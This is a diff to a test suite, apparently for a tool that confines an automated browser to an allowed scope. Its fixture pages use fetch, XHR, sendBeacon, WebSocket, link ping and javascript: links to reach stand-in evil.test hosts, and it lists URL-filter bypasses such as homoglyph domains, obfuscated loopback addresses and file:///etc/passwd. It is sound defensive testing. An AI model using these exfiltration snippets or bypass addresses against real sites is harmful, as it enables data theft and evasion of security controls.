@@ -27,6 +27,7 @@ const LOADED: Readonly<Record<string, string>> = {
   fetch: '<script>fetch("http://fetch.evil.test/", { mode: "no-cors" }).catch(() => {})</script>',
   'fetch-redirect': '<script>fetch("/redirect?to=http://fetch-redirect.evil.test/", { mode: "no-cors" }).catch(() => {})</script>',
   xhr: '<script>const x = new XMLHttpRequest(); x.open("POST", "http://xhr.evil.test/"); x.send("x")</script>',
+  ping: '<a id=p ping="http://ping.evil.test/" href="#x">x</a><script>p.click()</script>',
   beacon: '<script>navigator.sendBeacon("http://beacon.evil.test/", "x")</script>',
   eventsource: '<script>new EventSource("http://eventsource.evil.test/")</script>',
   websocket: '<script>new WebSocket("ws://websocket.evil.test/")</script>',
@@ -68,7 +69,8 @@ const LOOPBACK = ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '[::1]
 
 /** Pages of the tests that have a story of their own. */
 const OTHERS: Readonly<Record<string, string>> = {
-  '/unload-sendBeacon': '<script>addEventListener("pagehide", () => navigator.sendBeacon("http://sendbeacon-unload.evil.test/", "x"))</script>',
+  '/unload-sendBeacon':
+    '<script>addEventListener("pagehide", () => navigator.sendBeacon("http://sendbeacon-unload.evil.test/", "x"))</script>',
   '/unload-keepalive':
     '<script>addEventListener("pagehide", () => fetch("http://keepalive-unload.evil.test/", { keepalive: true, mode: "no-cors" }))</script>',
   '/javascript-link': '<a id=go href="javascript:setTimeout(() => { location = `http://javascript-link.evil.test/` }, 300)">go</a>',
@@ -120,7 +122,11 @@ describe.skipIf(missingBrowser !== undefined)('pages that try to leave the scope
     await until(`${name} is refused`, () => rulesFor(guarded.blocked, `${name}.evil.test`).length > 0)
     expect(rulesFor(guarded.blocked, `${name}.evil.test`)).toEqual(['host'])
     expect(['completed', 'blocked']).toContain(result.status)
-    await guarded.act({ type: 'wait_for', loadState: 'domcontentloaded' }) // whatever has left meanwhile is brought back before it
+    // whatever has left meanwhile is brought back before the next action, or after it when it leaves during it
+    for (let round = 0; round < 5; round += 1) {
+      await guarded.act({ type: 'wait_for', loadState: 'domcontentloaded' })
+      if (isInside()) break
+    }
     expect(isInside()).toBe(true)
     expect(world.evil.hits).toEqual([])
   })
@@ -165,7 +171,13 @@ describe.skipIf(missingBrowser !== undefined)('pages that try to leave the scope
   })
 
   it.each([
-    ...['http://login.com/', 'http://evil-example.com/', 'http://example.com.evil.test/', 'http://xn--xample-9uf.com/', 'http://еxample.com/'],
+    ...[
+      'http://login.com/',
+      'http://evil-example.com/',
+      'http://example.com.evil.test/',
+      'http://xn--xample-9uf.com/',
+      'http://еxample.com/',
+    ],
     ...['http://example.com@evil.test/', 'http://user:word@example.com/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/'],
     ...['http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://localhost/', 'data:text/html,x', 'javascript:alert(1)'],
     ...['file:///etc/passwd', 'chrome://version', 'view-source:http://example.com/', 'about:version', 'ftp://example.com/'],
@@ -180,7 +192,10 @@ describe.skipIf(missingBrowser !== undefined)('pages that try to leave the scope
 
   it('an action whose address is in scope and redirects out is undone', async () => {
     const result = await guarded.goto('http://example.com/redirect?to=http://hop.evil.test/')
-    expect(result).toMatchObject({ status: 'blocked', error: { code: 'ACTION_BLOCKED', details: { rule: 'host', url: 'hop.evil.test:80' } } })
+    expect(result).toMatchObject({
+      status: 'blocked',
+      error: { code: 'ACTION_BLOCKED', details: { rule: 'host', url: 'hop.evil.test:80' } },
+    })
     expect(guarded.browser.pages()[0]?.url()).toBe('http://example.com/')
     expect(world.evil.hits).toEqual([])
   })
@@ -188,7 +203,8 @@ describe.skipIf(missingBrowser !== undefined)('pages that try to leave the scope
   it('a link that leaves after the action is brought back before the next one', async () => {
     await guarded.goto('http://example.com/javascript-link')
     await guarded.act({ type: 'click', target: { css: '#go' } })
-    await until('it is refused', () => rulesFor(guarded.blocked, 'javascript-link.evil.test').length > 0)
+    await until('it has left', () => guarded.browser.pages()[0]?.url().startsWith('chrome-error:') === true)
+    expect(rulesFor(guarded.blocked, 'javascript-link.evil.test')).toEqual(['host'])
     expect((await guarded.act({ type: 'assert', target: { css: '#go' }, state: 'visible' })).status).toBe('completed')
     expect(guarded.browser.pages().map((page) => page.url())).toEqual(['http://example.com/javascript-link'])
     expect(world.evil.hits).toEqual([])
